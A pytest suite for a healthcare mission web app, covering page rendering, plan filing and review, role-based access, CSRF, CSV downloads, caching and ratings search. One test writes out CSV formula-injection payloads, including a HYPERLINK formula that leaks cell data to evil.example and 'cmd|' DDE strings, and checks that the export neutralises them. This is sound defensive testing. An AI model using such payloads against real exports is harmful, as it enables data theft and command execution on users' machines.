"""The mission's web pages inside the real web app (uptake.web.app.create_app + uptake.web.mission.pages.mount),
on a small workspace: every page renders, forms file and review a plan, and each role sees what it should."""

from __future__ import annotations

from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from test_mission_support import ADMIN, mission_workflow, small_store

from uptake.mission.assessments import add_assessment
from uptake.mission.demo import NATIONAL_ASSESSMENTS
from uptake.web.mission.pages import mount
from uptake.mission.ratings import compute_ratings, publish_ratings, review_ratings
from uptake.store import add_user, issue_api_token, make_engine, session_scope, upgrade
from uptake.workspace import Workspace


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with pytest.MonkeyPatch.context() as mp:
        mp.delenv("UPTAKE_DATABASE_URL", raising=False)
        yield from _site(tmp_path_factory.mktemp("mission-pages"))


def _site(tmp_path: Path):
    from uptake.web.app import create_app

    ws = Workspace.resolve(tmp_path / "ws").ensure()
    store = small_store(ws.analytics_path)
    upgrade(ws.database_url)
    engine = mission_workflow(make_engine(ws.database_url))
    tokens = {}
    with session_scope(engine) as session:
        for email, role, scope in (("admin@england.nhs.uk", "national-admin", None),
                                   ("analyst@alpha.nhs.uk", "icb-analyst", "QAA"),
                                   ("analyst@beta.nhs.uk", "icb-analyst", "QBB")):
            user = add_user(session, email, email, role, scope, actor="test")
            tokens[email] = {"authorization": "Bearer " + issue_api_token(session, user, "test", actor="test")}
        compute_ratings(session, store, who=ADMIN)
        review_ratings(session, ADMIN, level="stroke-unit")
        publish_ratings(session, ADMIN)
        add_assessment(session, ADMIN, **NATIONAL_ASSESSMENTS[0])
    engine.dispose()
    app = create_app(ws, secret_key="test-secret-key-" + "x" * 32)
    mount(app)
    with TestClient(app) as client:
        yield client, tokens


@pytest.mark.parametrize("path, words", [
    ("/nsf", "National Service Framework for Stroke"),
    ("/nsf/stroke", "Versions"),
    ("/nsf/stroke/thrombolysis", "Attainment in the latest period"),
    ("/nsf/stroke/thrombolysis?level=icb", "NHS Alpha Integrated Care Board"),
    ("/ratings", "Innovation ratings"),
    ("/ratings/stroke-unit/U05", "decertification watch list"),
    ("/plans", "Comply or justify"),
    ("/availability", "Stroke unit U05"),
])
def test_pages_render(site, path: str, words: str) -> None:
    client, _ = site
    response = client.get(path)
    assert response.status_code == 200, response.text[:500]
    assert words in response.text


def test_unknown_and_unpublished_things_are_not_found(site) -> None:
    client, tokens = site
    assert client.get("/nsf/nope").status_code == 404
    assert client.get("/nsf/stroke/nope").status_code == 404
    assert client.get("/ratings/icb/QAA").status_code == 404  # ICB ratings are drafts: not public
    assert client.get("/ratings/icb/QAA", headers=tokens["admin@england.nhs.uk"]).status_code == 200


def test_file_submit_challenge_through_the_forms(site) -> None:
    client, tokens = site
    analyst, other, admin = (tokens["analyst@alpha.nhs.uk"], tokens["analyst@beta.nhs.uk"],
                             tokens["admin@england.nhs.uk"])
    assert client.get("/plans/new").status_code == 403
    assert client.get("/plans/new", headers=admin).status_code == 403
    form = {"commitment": "stroke/thrombolysis", "kind": "plan", "summary": "Pre-alert and direct to CT.",
            "actions": "Pre-alert protocol | Network lead | 2022-09-30\nTelestroke | Medical director | 2023-03-31",
            "funding_amount": "£250,000", "funding_source": "ICB", "funding_years": "2022/23",
            "support": "Peer support from the best unit.", "expected_trajectory": "2022-12-31 15%\n2025-12-31 20%"}
    bad = client.post("/plans/new", data=dict(form, actions=""), headers=analyst)
    assert bad.status_code == 400 and "There is a problem" in bad.text
    assert '<a href="#actions">Actions needs at least one line</a>' in bad.text
    assert "nhsuk-form-group nhsuk-form-group--error" in bad.text and "Pre-alert and direct to CT." in bad.text
    saved = client.post("/plans/new", data=form, headers=analyst, follow_redirects=False)
    assert saved.status_code == 303
    page = saved.headers["location"]
    shown = client.get(page, headers=analyst).text
    assert "Pre-alert protocol" in shown and "£250,000" in shown and "Plan against actual" in shown
    assert '<a class="nhsuk-link" href="/nsf/stroke/thrombolysis">' in shown  # the commitment, by its title
    assert client.get(page).status_code == 404 and client.get(page, headers=other).status_code == 404
    assert client.post(page + "/submit", headers=other).status_code == 404  # as reading it: not there
    assert client.post(page + "/submit", headers=analyst, follow_redirects=False).status_code == 303
    assert page.rsplit("/", 1)[1] in client.get("/plans/queue", headers=admin).text
    assert client.get("/plans/queue", headers=analyst).status_code == 403
    refused = client.post(page + "/challenge", data={"comment": " "}, headers=admin)
    assert refused.status_code == 400 and "There is a problem" in refused.text
    assert "Could not challenge: a challenge needs a comment" in refused.text and "Pre-alert protocol" in refused.text
    assert client.post(page + "/challenge", data={"comment": "Name the unit leads."}, headers=admin,
                       follow_redirects=False).status_code == 303
    assert "Name the unit leads." in client.get(page, headers=analyst).text


def test_a_step_on_a_filing_the_person_cannot_see_is_not_found_through_the_forms(site) -> None:
    """The step buttons' forms answer a filing the person may not see as its page does (404, naming nothing);
    one they may see but may not act on is refused with the reason (403)."""
    from test_mission_plans import PLAN

    client, tokens = site
    analyst, other, admin = (tokens["analyst@alpha.nhs.uk"], tokens["analyst@beta.nhs.uk"],
                             tokens["admin@england.nhs.uk"])
    body = {"framework": "cancer", "commitment": "lung-cancer-early-diagnosis", "icb": "QAA", "kind": "plan",
            "content": PLAN}
    filing = client.post("/api/v1/plans", json=body, headers=analyst).json()["id"]
    read = client.get(f"/plans/{filing}", headers=other)
    assert read.status_code == 404
    for action in ("submit", "resubmit", "accept", "challenge", "publish"):
        for headers in (other, {}):
            written = client.post(f"/plans/{filing}/{action}", data={"comment": "Say more."}, headers=headers)
            if not headers:  # anonymous and without the form's CSRF token: refused before anything is read
                assert written.status_code == 403 and "did not come from this site" in written.text
                continue
            assert written.status_code == 404, (action, written.text[:300])
            assert "Page not found" in written.text
            assert not any(word in written.text for word in ("QAA", "lung-cancer", "Lung cancer", "is draft"))
    refused = client.post(f"/plans/{filing}/accept", headers=admin)  # the reviewer sees drafts: a reason
    assert refused.status_code == 403 and "the filing is draft; accept needs it to be" in refused.text


def test_the_public_list_of_icbs_with_nothing_filed_says_only_what_is_public(site) -> None:
    """/plans: the public's count and list of ICBs with nothing filed do not change when an ICB drafts or
    submits a filing (neither is public); the national reviewer's do."""
    from test_mission_plans import JUSTIFICATION

    client, tokens = site
    beta, admin = tokens["analyst@beta.nhs.uk"], tokens["admin@england.nhs.uk"]
    public_before, admin_before = client.get("/plans").text, client.get("/plans", headers=admin).text
    assert "ICBs have published nothing (drafts and filings under review are not public)" in public_before
    body = {"framework": "dementia", "commitment": "dementia-diagnosis", "icb": "QBB", "kind": "justification",
            "content": JUSTIFICATION}
    filing = client.post("/api/v1/plans", json=body, headers=beta).json()["id"]
    assert client.get("/plans").text == public_before
    assert client.post(f"/api/v1/plans/{filing}/submit", headers=beta).status_code == 200
    assert client.get("/plans").text == public_before
    assert client.get("/plans", headers=admin).text != admin_before  # one fewer outstanding


def test_forms_from_a_browser_session_need_the_csrf_token(site) -> None:
    client, _ = site
    response = client.post("/plans/1/submit", data={})
    assert response.status_code == 403


def test_downloads(site) -> None:
    client, _ = site
    csv = client.get("/mission/download/attainment.csv?framework=stroke&commitment=thrombolysis&level=stroke-unit")
    assert csv.status_code == 200 and csv.text.startswith("framework,framework_version,commitment")
    assert len(csv.text.strip().splitlines()) == 37
    ratings = client.get("/mission/download/ratings.csv")
    assert ratings.text.count("\nU0") + ratings.text.count("\nU1") == 36
    assert "U05" in client.get("/mission/download/gaps.csv").text
    assert client.get("/mission/download/nothing.csv").status_code == 404


def test_formulas_in_an_assessment_are_neutralised_in_its_download(site) -> None:
    import csv
    import io

    client, tokens = site
    evil = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    added = client.post("/api/v1/assessments", headers=tokens["admin@england.nhs.uk"], json={
        "innovation": "thrombolysis", "body": evil, "decision": "not-recommended", "decided_on": "2001-01-01",
        "conditions": "@SUM(1+1)*cmd|' /C calc'!A0", "reference": "+1+cmd|' /C calc'!A0", "icer": 25000})
    assert added.status_code == 201, added.text
    rows = list(csv.DictReader(io.StringIO(client.get("/mission/download/assessments.csv").text)))
    row = next(r for r in rows if evil in r["body"])
    assert row["body"] == "'" + evil
    assert row["conditions"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["reference"] == "'+1+cmd|' /C calc'!A0"
    assert float(row["icer"]) == 25000  # numbers stay numbers
    assert all(not (value or "x")[0] in "=+-@\t\r" for r in rows for value in r.values())


def _map_spec(html: str) -> dict:
    import json
    import re

    found = re.search(r'<script type="application/json" id="attainment-map-data">(.*?)</script>', html, re.S)
    assert found, "the commitment page has no attainment map"
    return json.loads(found.group(1))


def _latest_attainment(client, level: str) -> list[dict]:
    import csv
    import io

    text = client.get(f"/mission/download/attainment.csv?framework=stroke&commitment=thrombolysis&level={level}").text
    rows = list(csv.DictReader(io.StringIO(text)))
    latest = max(r["period"] for r in rows)
    return [r for r in rows if r["period"] == latest]


def test_commitment_map_colours_each_icb_by_its_status(site) -> None:
    client, _ = site
    spec = _map_spec(client.get("/nsf/stroke/thrombolysis?level=icb").text)
    assert spec["geo"] == "/geo/icb.json"
    assert [c["key"] for c in spec["categories"]] == ["met", "on-trajectory", "not-distinguishable",
                                                      "off-trajectory", "missed"]
    expected = {r["org_code"]: r["status"] for r in _latest_attainment(client, "icb")}
    assert expected and {code: v["category"] for code, v in spec["values"].items()} == expected


def test_commitment_map_summarises_stroke_units_by_the_icb_that_holds_them(site) -> None:
    from test_mission_support import UNITS

    client, _ = site
    page = client.get("/nsf/stroke/thrombolysis").text
    spec = _map_spec(page)
    assert spec["geo"] == "/geo/icb.json" and spec["range"] == [0, 100]
    # the slow way: each unit's ICB from the test hierarchy, then the share met or on trajectory
    good: dict[str, list[bool]] = {}
    for row in _latest_attainment(client, "stroke-unit"):
        icb = UNITS[row["org_code"]][0]
        good.setdefault(icb, []).append(row["status"] in ("met", "on-trajectory"))
    assert good and set(spec["values"]) == set(good)
    for icb, flags in good.items():
        assert spec["values"][icb]["v"] == pytest.approx(100 * sum(flags) / len(flags))
        assert spec["values"][icb]["label"].startswith(f"{sum(flags)} of {len(flags)} stroke unit")
    assert "How was this map drawn?" in page


def test_progress_bars_split_by_the_counts_beside_them(site) -> None:
    import re

    client, _ = site
    html = client.get("/nsf").text
    bars = re.findall(r'<div class="uptake-statusbar" role="img" aria-label="([^"]*)">(.*?)</div>', html, re.S)
    assert bars
    for label, inner in bars:
        counts = {status.replace(" ", "-"): int(n) for n, status in re.findall(r"(\d+) ([a-z ]+?)(?:,|$)", label)}
        widths = {s: float(w) for s, w in re.findall(
            r'uptake-statusbar__part--([a-z-]+)" style="width: ([\d.]+)%"', inner)}
        assert set(widths) == {s for s, n in counts.items() if n}
        total = sum(counts.values())
        for status, width in widths.items():
            assert width == pytest.approx(100 * counts[status] / total, abs=0.01)


def test_watch_list_and_missed_opportunities_are_shown_and_download(site) -> None:
    import csv
    import io

    client, _ = site
    page = client.get("/ratings").text
    assert "Decertification watch list" in page and "Missed opportunities" in page
    watch = list(csv.DictReader(io.StringIO(client.get("/mission/download/watch-list.csv").text)))
    assert watch, "the small workspace has a stroke unit below the minimum for long enough"
    for row in watch:
        assert int(row["periods_below_minimum"]) >= int(row["threshold_periods"])
        assert f'/ratings/{row["level"]}/{row["org_code"]}' in page
    missed = list(csv.DictReader(io.StringIO(client.get("/mission/download/missed-opportunities.csv").text)))
    for row in missed:
        assert 2 * int(row["peers_met"]) > int(row["peers_assessed"]) and row["status"] not in ("met", "on-trajectory")
    units = client.get("/mission/download/watch-list.csv?level=icb").text.strip().splitlines()
    assert len(units) == 1 + sum(r["level"] == "icb" for r in watch)


def test_one_organisations_downloads(site) -> None:
    import csv
    import io

    client, tokens = site
    page = client.get("/ratings/stroke-unit/U05").text
    assert "/mission/download/ratings.csv?level=stroke-unit&org=U05" in page.replace("&amp;", "&")
    ratings = list(csv.DictReader(io.StringIO(client.get("/mission/download/ratings.csv?level=stroke-unit&org=U05").text)))
    assert ratings and {r["org_code"] for r in ratings} == {"U05"}
    attainment = list(csv.DictReader(io.StringIO(
        client.get("/mission/download/attainment.csv?level=stroke-unit&org=U05").text)))
    assert attainment and {r["org_code"] for r in attainment} == {"U05"}
    assert client.get("/mission/download/filings.csv?queue=true").status_code == 403
    admin, analyst = tokens["admin@england.nhs.uk"], tokens["analyst@beta.nhs.uk"]
    form = {"commitment": "stroke/thrombolysis", "kind": "justification", "reason_category": "other",
            "reason": "Our two units share one CT scanner.", "evidence": "Scanner log 2022",
            "alternative": "Telestroke with the neighbouring ICB", "review_date": "2023-06-30"}
    saved = client.post("/plans/new", data=form, headers=analyst, follow_redirects=False)
    assert saved.status_code == 303, saved.text[:300]
    filing = saved.headers["location"].rsplit("/", 1)[1]
    assert client.post(f"/plans/{filing}/submit", headers=analyst, follow_redirects=False).status_code == 303
    queue = list(csv.DictReader(io.StringIO(
        client.get("/mission/download/filings.csv?queue=true", headers=admin).text)))
    assert filing in {row["id"] for row in queue}
    assert {row["status"] for row in queue} <= {"submitted", "resubmitted"}
    assert f'href="/plans/{filing}"' in client.get("/plans/queue", headers=admin).text


def test_a_commitment_page_shows_the_weakest_first_and_says_how_many_are_left_out(site, monkeypatch) -> None:
    import re

    from uptake.web.mission import commitments

    client, _ = site
    everyone = _latest_attainment(client, "stroke-unit")
    monkeypatch.setattr(commitments, "COMMITMENT_ROWS", 5)
    client.app.state.web.cache.clear()  # the page as built before the change is kept for anonymous visitors
    html = client.get("/nsf/stroke/thrombolysis").text
    client.app.state.web.cache.clear()
    assert f"the 5 weakest of {len(everyone)} shown" in html
    shown = re.findall(r'href="/ratings/stroke-unit/([^"]+)"', html.split("Attainment in the latest period")[1])
    assert len(shown) == 5
    rank = {r["org_code"]: int(r["rank"]) for r in everyone}
    assert [rank[code] for code in shown] == sorted(rank.values())[:5]  # weakest first, in order


# --- /ratings paged and searchable --------------------------------------------------------------------------


def _rating_rows(html: str) -> list[str]:
    import re

    table = html.split('id="ratings-table"', 1)[1].split("</table>", 1)[0]
    return re.findall(r'<a class="nhsuk-link" href="/ratings/[a-z-]+/([^"]+)">', table)


def test_ratings_are_paged_and_the_download_has_them_all(site, monkeypatch) -> None:
    import csv
    import io

    from uptake.web.mission import ratings

    client, _ = site
    everyone = list(csv.DictReader(io.StringIO(client.get("/mission/download/ratings.csv").text)))
    assert len(everyone) == 36
    monkeypatch.setattr(ratings, "PER_PAGE", 10)
    client.app.state.web.cache.clear()
    try:
        first = client.get("/ratings").text
        second = client.get("/ratings?page=2").text
        third = client.get("/ratings?page=3").text
        last = client.get("/ratings?page=4").text
        beyond = client.get("/ratings?page=99").text
    finally:
        client.app.state.web.cache.clear()
    assert len(_rating_rows(first)) == 10 and len(_rating_rows(second)) == 10 and len(_rating_rows(last)) == 6
    assert _rating_rows(first) + _rating_rows(second) + _rating_rows(third) + _rating_rows(last) \
        == [r["org_code"] for r in everyone]
    assert 'class="nhsuk-pagination"' in first and "Page 2 of 4" in first and "Previous" not in first
    assert "11 to 20 shown (page 2 of 4" in " ".join(second.split())
    assert 'href="/ratings?level=&amp;period=&amp;rating=&amp;q=&amp;page=3#ratings-table"' in second
    assert _rating_rows(beyond) == _rating_rows(last)  # past the end: the last page
    # the download still gives every row, whatever page is shown
    assert 'href="/mission/download/ratings.csv?level=&amp;period=&amp;rating=&amp;q="' in second
    assert client.get("/ratings?page=0").status_code == 422


def test_ratings_can_be_searched_by_name_code_level_and_rating(site) -> None:
    import csv
    import io

    client, _ = site
    by_code = client.get("/ratings?q=u05").text
    assert set(_rating_rows(by_code)) == {"U05"} and len(_rating_rows(by_code)) == 3
    assert "3 ratings found" in by_code
    by_name = client.get("/ratings?q=Stroke+unit+U1").text
    assert set(_rating_rows(by_name)) == {"U10", "U11", "U12"}
    rated = list(csv.DictReader(io.StringIO(client.get("/mission/download/ratings.csv").text)))
    inadequate = {r["org_code"] for r in rated if r["rating"] == "inadequate"}
    assert inadequate and set(_rating_rows(client.get("/ratings?rating=inadequate").text)) == inadequate
    assert _rating_rows(client.get("/ratings?level=icb").text) == []  # ICB ratings are not published
    nothing = client.get("/ratings?q=nowhere").text
    assert "No published rating matches the search." in nothing and "Clear the search" in nothing
    # the downloads follow the search: every matching row
    found = list(csv.DictReader(io.StringIO(client.get("/mission/download/ratings.csv?q=u05").text)))
    assert {r["org_code"] for r in found} == {"U05"} and len(found) == 3
    watch = client.get("/mission/download/watch-list.csv?q=nowhere").text.strip().splitlines()
    assert len(watch) == 1  # the header
    assert client.get("/ratings?rating=brilliant").status_code == 422


# --- mission pages cached against the snapshot and the published state -------------------------------------


CACHED_PAGES = ("/nsf", "/nsf/stroke", "/nsf/stroke/thrombolysis", "/ratings", "/ratings/stroke-unit/U05",
                "/availability")


@pytest.mark.parametrize("path", CACHED_PAGES)
def test_public_mission_pages_are_cached_for_anonymous_visitors(site, path: str) -> None:
    client, tokens = site
    first = client.get(path)
    assert first.status_code == 200
    assert first.headers["cache-control"] == "no-cache" and first.headers.get("etag")
    again = client.get(path, headers={"if-none-match": first.headers["etag"]})
    assert again.status_code == 304
    signed_in = client.get(path, headers=tokens["admin@england.nhs.uk"])
    assert signed_in.status_code == 200
    assert signed_in.headers["cache-control"] == "private, no-store" and "etag" not in signed_in.headers


def test_a_cached_page_is_built_once(site, monkeypatch) -> None:
    from uptake.web.mission import ratings

    client, _ = site
    built = []
    real = ratings.ratings_table
    monkeypatch.setattr(ratings, "ratings_table", lambda *a, **k: built.append(1) or real(*a, **k))
    client.app.state.web.cache.clear()
    assert client.get("/ratings?level=stroke-unit").status_code == 200
    assert client.get("/ratings?level=stroke-unit").status_code == 200
    assert len(built) == 1


def test_a_crowd_shares_one_read_of_the_mission_stamp_and_the_next_request_reads_again() -> None:
    """Web.shared: 20 requests arriving while the stamp is being read share that one read (not 20 queued for
    the workflow database's connections); a request after it finished reads again (so a change is seen)."""
    import asyncio
    import threading
    from types import SimpleNamespace

    from uptake.web.state import Web

    web = SimpleNamespace(_flights={})
    calls: list[int] = []
    gate = threading.Event()

    def read() -> int:
        calls.append(1)
        gate.wait(10)
        return len(calls)

    async def crowd_then_one() -> tuple[list[int], int]:
        crowd = [asyncio.ensure_future(Web.shared(web, "stamp", read)) for _ in range(20)]
        await asyncio.sleep(0.1)
        gate.set()
        together = await asyncio.gather(*crowd)
        return together, await Web.shared(web, "stamp", read)

    together, after = asyncio.run(crowd_then_one())
    assert together == [1] * 20 and after == 2 and len(calls) == 2 and web._flights == {}


@pytest.fixture
def own_site(tmp_path_factory):
    """A site of its own, for a test that publishes."""
    with pytest.MonkeyPatch.context() as mp:
        mp.delenv("UPTAKE_DATABASE_URL", raising=False)
        yield from _site(tmp_path_factory.mktemp("mission-cache"))


def test_publishing_ratings_shows_on_the_next_anonymous_request(own_site) -> None:
    client, tokens = own_site
    engine = client.app.state.web.engine
    before = client.get("/ratings?level=icb").text
    assert _rating_rows(before) == [] and client.get("/ratings/icb/QAA").status_code == 404
    everything = client.get("/ratings").text
    assert "QAA" not in _rating_rows(everything)
    assert client.get("/ratings?level=icb").text == before  # served from the cache
    with session_scope(engine) as session:  # as `uptake ratings review` and `publish` do, in another process
        review_ratings(session, ADMIN, level="icb")
        publish_ratings(session, ADMIN, level="icb")
    assert "QAA" in _rating_rows(client.get("/ratings?level=icb").text)
    assert "QAA" in _rating_rows(client.get("/ratings").text)
    assert client.get("/ratings/icb/QAA").status_code == 200
    # a new value assessment shows on the availability page's next anonymous request too
    assert "TA999" not in client.get("/availability").text
    added = client.post("/api/v1/assessments", headers=tokens["admin@england.nhs.uk"], json={
        "innovation": "thrombolysis", "body": "NICE", "decision": "recommended", "decided_on": "2020-01-01",
        "reference": "TA999"})
    assert added.status_code == 201, added.text
    assert "TA999" in client.get("/availability").text


def test_the_public_mission_api_is_kept_for_anonymous_callers_until_the_mission_changes(own_site,
                                                                                        monkeypatch) -> None:
    """/api/v1/ratings, /nsf, /nsf/{id} and /assessments: built once per snapshot and mission stamp for callers
    who are not signed in (an ETag and 304), for each request for a signed-in caller; publishing shows at once."""
    from uptake.web.mission import api as mission_api

    client, tokens = own_site
    engine = client.app.state.web.engine
    built: list[int] = []
    real = mission_api.ratings_table
    monkeypatch.setattr(mission_api, "ratings_table", lambda *a, **k: built.append(1) or real(*a, **k))
    first = client.get("/api/v1/ratings?level=icb")
    assert first.status_code == 200 and first.headers.get("etag") and first.json()["total"] == 0
    assert client.get("/api/v1/ratings?level=icb").json() == first.json()
    assert client.get("/api/v1/ratings?level=icb", headers={"if-none-match": first.headers["etag"]}).status_code == 304
    assert len(built) == 1
    admin = tokens["admin@england.nhs.uk"]
    for _ in range(2):
        mine = client.get("/api/v1/ratings?level=icb", headers=admin)
        assert mine.status_code == 200 and mine.headers["cache-control"].startswith("private")
    assert len(built) == 3  # a signed-in caller's answer is built for them each time
    assert client.get("/api/v1/ratings?status=draft").status_code == 403  # refused, not kept
    with session_scope(engine) as session:
        review_ratings(session, ADMIN, level="icb")
        publish_ratings(session, ADMIN, level="icb")
    after = client.get("/api/v1/ratings?level=icb")
    assert after.json()["total"] > 0 and after.headers["etag"] != first.headers["etag"]
    for url in ("/api/v1/nsf", "/api/v1/nsf/stroke", "/api/v1/assessments"):
        one = client.get(url)
        assert one.status_code == 200 and one.headers.get("etag"), url
        assert client.get(url, headers={"if-none-match": one.headers["etag"]}).status_code == 304, url
    listed = len(client.get("/api/v1/assessments").json())
    added = client.post("/api/v1/assessments", headers=admin, json={
        "innovation": "thrombolysis", "body": "NICE", "decision": "recommended", "decided_on": "2020-01-01",
        "reference": "TA998"})
    assert added.status_code == 201, added.text
    assert len(client.get("/api/v1/assessments").json()) == listed + 1


def test_the_mission_stamp_changes_with_what_the_public_sees(own_site) -> None:
    from uptake.mission.stamp import published_stamp

    client, tokens = own_site
    engine = client.app.state.web.engine
    with session_scope(engine) as session:
        first = published_stamp(session)
    with session_scope(engine) as session:
        assert published_stamp(session) == first  # nothing changed
        review_ratings(session, ADMIN, level="icb")
    with session_scope(engine) as session:
        assert published_stamp(session) == first  # reviewed ratings are not public
        publish_ratings(session, ADMIN, level="icb")
    with session_scope(engine) as session:
        second = published_stamp(session)
    assert second != first


def test_a_rating_run_made_with_results_not_yet_seen_leaves_the_stamp_of_their_readers(own_site) -> None:
    """A compute commits its draft rating run to the workflow database before its results are published: for a
    reader of the older results (what the pages show) the stamp stays; for a reader of the new ones it moves."""
    from uptake.mission.stamp import published_stamp
    from uptake.store.mission_models import RatingRun

    client, _ = own_site
    engine = client.app.state.web.engine
    with session_scope(engine) as session:
        newest = max(run.id for run in session.query(RatingRun))
        made_with = (session.get(RatingRun, newest).summary or {}).get("publication") or 0
        seen = made_with + 1
        before_old, before_all = published_stamp(session, seen), published_stamp(session)
        run = session.get(RatingRun, newest)
        session.add(RatingRun(**{c.name: getattr(run, c.name) for c in RatingRun.__table__.columns
                                 if c.name != "id" and c.name != "summary"},
                              summary={**(run.summary or {}), "publication": seen + 1}))
    with session_scope(engine) as session:
        assert published_stamp(session, seen) == before_old  # its results are not the reader's yet
        assert published_stamp(session, seen + 1) != before_old  # a reader of them is told of it
        assert published_stamp(session) != before_all  # without a publication, every run counts


# --- /assessments ------------------------------------------------------------------------------------------


def test_the_value_assessments_page(site) -> None:
    import csv
    import io

    client, tokens = site
    page = client.get("/assessments")
    assert page.status_code == 200
    html = " ".join(page.text.split())
    assert "<h1 class=\"nhsuk-heading-xl\">Value assessments</h1>" in html
    assert "TA264" in html and "National" in html and "Recommended" in html and "2012-12-25" in html
    assert "Due everywhere since 2012-12-25" in html and 'href="/availability"' in html
    gaps = list(csv.DictReader(io.StringIO(client.get("/mission/download/gaps.csv").text)))
    n = sum(r["reference"] == "TA264" for r in gaps)
    assert n and f"{n} organisation{'s' if n != 1 else ''} not at the adoption threshold" in html
    assert 'href="/mission/download/assessments.csv"' in html
    # public, as the API decides: everyone sees every assessment the API lists
    from markupsafe import escape

    listed = client.get("/api/v1/assessments").json()
    assert listed and all(str(escape(a["reference"] or a["body"])) in page.text for a in listed)
    assert client.get("/assessments", headers=tokens["analyst@beta.nhs.uk"]).status_code == 200
    # the download has the status too; the availability page and the NSF index link here
    rows = list(csv.DictReader(io.StringIO(client.get("/mission/download/assessments.csv").text)))
    assert {"status", "status_text", "due_date", "scope", "decision"} <= set(rows[0])
    assert next(r for r in rows if r["reference"] == "TA264")["status"] == "due-everywhere"
    assert 'href="/assessments"' in client.get("/availability").text
    assert 'href="/assessments"' in client.get("/nsf").text


def test_what_an_assessment_means_on_a_day() -> None:
    import datetime as dt

    import pandas as pd

    from uptake.mission.assessments import APPROVED, assessment_statuses, due_date

    rows = [
        (1, "national", None, "recommended", dt.date(2024, 1, 1), None, "NICE", "TA1"),
        (2, "national", None, "optimised", dt.date(2024, 3, 1), None, "NICE", "TA2"),
        (3, "national", None, "not-recommended", dt.date(2024, 1, 1), None, "NICE", "TA3"),
        (4, "local", "QAA", "recommended", dt.date(2024, 2, 1), 1, "APC", None),
        (5, "local", "QBB", "optimised", dt.date(2023, 1, 1), None, "APC", None),
    ]
    frame = pd.DataFrame(rows, columns=["id", "scope", "org_code", "decision", "decided_on", "duplicate_of", "body",
                                        "reference"])
    frame["due_date"] = [due_date(d) if s == "national" and c in APPROVED else None
                         for s, c, d in zip(frame["scope"], frame["decision"], frame["decided_on"])]
    out = assessment_statuses(frame, today=dt.date(2024, 4, 30))
    assert list(out["status"]) == ["due-everywhere", "due-soon", "not-approved", "duplicate", "local"]
    assert out["status_text"][0] == "due everywhere since 2024-03-31"
    assert out["status_text"][1] == "approved; due everywhere by 2024-05-30"
    assert out["status_text"][3] == "duplicates the national assessment NICE TA1 of 2024-01-01"
    assert list(assessment_statuses(frame, today=dt.date(2024, 5, 30))["status"])[:2] == ["due-everywhere"] * 2


@pytest.mark.parametrize("path, status, title, link", [
    ("/nsf/nope", 404, "Framework not found", "/nsf"),
    ("/nsf/stroke/nope", 404, "Commitment not found", "/nsf/stroke"),
    ("/ratings/icb/QAA", 404, "Rating not found", "/ratings?q=QAA"),
    ("/plans/999", 404, "Page not found", "/plans"),
    ("/ratings?level=stroke-unit&rating=brilliant", 422, "There is a problem with the web address",
     "/ratings?level=stroke-unit"),
])
def test_mission_errors_say_what_and_what_to_do(site, path: str, status: int, title: str, link: str) -> None:
    client, _ = site
    response = client.get(path)
    assert response.status_code == status
    assert f'<h1 class="nhsuk-heading-xl">{title}</h1>' in response.text
    assert f'href="{link}"' in response.text.replace("&amp;", "&")
